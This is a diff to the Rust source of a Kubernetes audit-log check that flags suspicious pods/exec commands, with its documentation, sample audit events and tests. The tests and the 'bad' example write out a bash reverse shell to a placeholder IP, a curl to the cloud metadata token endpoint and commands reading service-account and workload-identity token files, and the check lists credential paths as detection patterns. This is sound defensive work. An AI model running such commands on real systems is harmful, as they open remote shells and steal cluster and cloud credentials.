@@ -1,23 +1,26 @@
 //! Exec whose command looks like an attack: reverse shells, downloads, metadata endpoint,
 //! credential files.
 
-use kubeward_core::{CheckDoc, CheckMeta, RefStatic, Severity, Status};
+use kubeward_core::{Area, CheckDoc, CheckMeta, RefStatic, Severity, Status};
 
 use super::*;
 
-pub static META: CheckMeta = meta(
-    "A002",
-    "exec-suspicious-command",
-    "Exec runs a command typical of an attack",
-    Severity::High,
-    &[
+pub static META: CheckMeta = CheckMeta {
+    code: "A002",
+    name: "exec-suspicious-command",
+    since: "0.1.0",
+    aliases: &[],
+    title: "Exec runs a command typical of an attack",
+    area: Area::Audit,
+    severity: Severity::High,
+    references: &[
         RefStatic::mitre("T1059"),
         RefStatic::mitre("T1552.005"),
         ms("MS-TA9007"),
     ],
-    CheckDoc {
-        bad: "",
-        good: "",
+    profiles: &[],
+    kubeward_own: true,
+    doc: CheckDoc {
         what: "The `command` parameters of pods/exec requests (visible in the request URI at every audit level) matched against reverse-shell, download, cloud metadata (169.254.169.254, 168.63.129.16, metadata.google.internal) and credential-path patterns. The credential paths are the service-account token (`/var/run/secrets/kubernetes.io/`), projected service-account tokens (`/var/run/secrets/tokens/`), the workload-identity tokens of AKS (`/var/run/secrets/azure/tokens/`, AZURE_FEDERATED_TOKEN_FILE) and EKS (`/var/run/secrets/eks.amazonaws.com/` for IAM roles for service accounts, `/var/run/secrets/pods.eks.amazonaws.com/` for EKS Pod Identity), each also under `/run/`, and the node's `/etc/kubernetes/azure.json`. GKE Workload Identity has no token file: its tokens come from the metadata server, which the metadata patterns cover.",
         why: "These commands fetch tools, open shells back to an attacker or read the node's and pod's credentials (service account token, azure.json, IMDS tokens).",
         fix: "Treat as an incident: identify the user and source IP, revoke their credentials (`az aks get-credentials` is per user with Entra ID; rotate the cluster certificates with `az aks rotate-certs` if the local admin was used), inspect the pod and restrict pods/exec in RBAC.",
@@ -27,10 +30,12 @@ pub static META: CheckMeta = meta(
             "https://docs.aws.amazon.com/eks/latest/userguide/pod-configuration.html",
             "https://kubernetes.io/docs/concepts/storage/projected-volumes/#serviceaccounttoken",
         ],
+        bad: r#"{"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "5f0c0003-3c1e-4b7a-9d2e-8a61c0d20003", "stage": "ResponseStarted", "requestURI": "/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command=curl%20-s%20-H%20Metadata:true%20http://169.254.169.254/metadata/identity/oauth2/token&container=web&stdin=true&stdout=true&tty=true", "verb": "create", "user": {"username": "alice@contoso.com", "groups": ["system:authenticated"]}, "sourceIPs": ["203.0.113.7"], "userAgent": "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46", "objectRef": {"resource": "pods", "namespace": "shop", "name": "web", "apiVersion": "v1", "subresource": "exec"}, "responseStatus": {"metadata": {}, "code": 101}, "requestReceivedTimestamp": "2026-11-20T10:00:00.000000Z", "stageTimestamp": "2026-11-20T10:00:00.050000Z", "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}}"#,
+        good: r#"{"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "5f0c0004-3c1e-4b7a-9d2e-8a61c0d20004", "stage": "ResponseStarted", "requestURI": "/api/v1/namespaces/shop/pods/web/exec?command=ls&command=/app&container=web&stdin=true&stdout=true&tty=true", "verb": "create", "user": {"username": "alice@contoso.com", "groups": ["system:authenticated"]}, "sourceIPs": ["203.0.113.7"], "userAgent": "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46", "objectRef": {"resource": "pods", "namespace": "shop", "name": "web", "apiVersion": "v1", "subresource": "exec"}, "responseStatus": {"metadata": {}, "code": 101}, "requestReceivedTimestamp": "2026-11-20T10:00:00.000000Z", "stageTimestamp": "2026-11-20T10:00:00.050000Z", "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}}"#,
     },
-);
+};
 
-pub static RULE: Rule = Rule {
+pub static CHECK: Check = Check {
     meta: &META,
     needs: Needs {
         read_verbs: ReadVerbs::Partly,
@@ -123,17 +128,17 @@ mod tests {
     #[test]
     fn fires_on_reverse_shell_and_imds() {
         assert!(fires(
-            &RULE,
+            &CHECK,
             exec(
                 "command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F198.51.100.9%2F4444%200%3E%261"
             )
         ));
         assert!(fires(
-            &RULE,
+            &CHECK,
             exec("command=curl+-H+Metadata:true+http://169.254.169.254/metadata/identity")
         ));
         assert!(fires(
-            &RULE,
+            &CHECK,
             exec("command=cat&command=/var/run/secrets/kubernetes.io/serviceaccount/token")
         ));
     }
@@ -143,41 +148,41 @@ mod tests {
         for (path, _) in TOKEN_PATHS {
             let enc = path.replace('/', "%2F");
             assert!(
-                fires(&RULE, exec(&format!("command=cat&command={enc}"))),
+                fires(&CHECK, exec(&format!("command=cat&command={enc}"))),
                 "{path}"
             );
             // The same file through /run, which /var/run links to.
             let run = path.trim_start_matches("/var");
             assert!(
-                fires(&RULE, exec(&format!("command=cat&command={run}"))),
+                fires(&CHECK, exec(&format!("command=cat&command={run}"))),
                 "{run}"
             );
         }
         assert!(fires(
-            &RULE,
+            &CHECK,
             exec(
                 "command=sh&command=-c&command=cat+%24AZURE_FEDERATED_TOKEN_FILE+/var/run/secrets/azure/tokens/azure-identity-token"
             )
         ));
         assert!(fires(
-            &RULE,
+            &CHECK,
             exec("command=getent&command=hosts&command=metadata.google.internal")
         ));
         // Other files under /var/run are not credentials.
         assert!(!fires(
-            &RULE,
+            &CHECK,
             exec("command=ls&command=/var/run/secrets-store")
         ));
         assert!(!fires(
-            &RULE,
+            &CHECK,
             exec("command=cat&command=/var/run/nginx.pid")
         ));
     }
 
     #[test]
     fn silent_on_ordinary_commands() {
-        assert!(!fires(&RULE, exec("command=ls&command=-la")));
-        assert!(!fires(&RULE, exec("command=sh")));
-        assert!(!fires(&RULE, json!({"verb": "create"})));
+        assert!(!fires(&CHECK, exec("command=ls&command=-la")));
+        assert!(!fires(&CHECK, exec("command=sh")));
+        assert!(!fires(&CHECK, json!({"verb": "create"})));
     }
 }
